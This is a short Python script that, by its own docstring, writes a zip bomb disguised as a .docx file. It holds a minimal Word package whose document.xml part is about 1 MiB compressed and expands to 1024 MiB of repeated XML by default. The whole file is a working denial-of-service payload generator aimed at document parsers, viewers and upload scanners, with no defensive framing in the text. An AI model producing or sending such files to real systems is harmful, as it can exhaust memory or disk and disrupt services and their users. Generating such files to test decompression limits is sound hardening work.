"""Writes a .docx-named zip bomb: [Content_Types].xml and word/document.xml that unpacks to
SIZE MiB of repeated XML (1024 MiB by default, about 1 MiB compressed)."""
import sys
import zipfile

path = sys.argv[1]
mebibytes = int(sys.argv[2]) if len(sys.argv) > 2 else 1024
run = b"<w:p><w:r><w:t>" + "同志们".encode() * 40 + b"</w:t></w:r></w:p>"
chunk = run * (1_048_576 // len(run))
with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
    with archive.open("word/document.xml", "w", force_zip64=True) as part:
        part.write(b'<?xml version="1.0"?><w:document><w:body>')
        for _ in range(mebibytes):
            part.write(chunk)
        part.write(b"</w:body></w:document>")
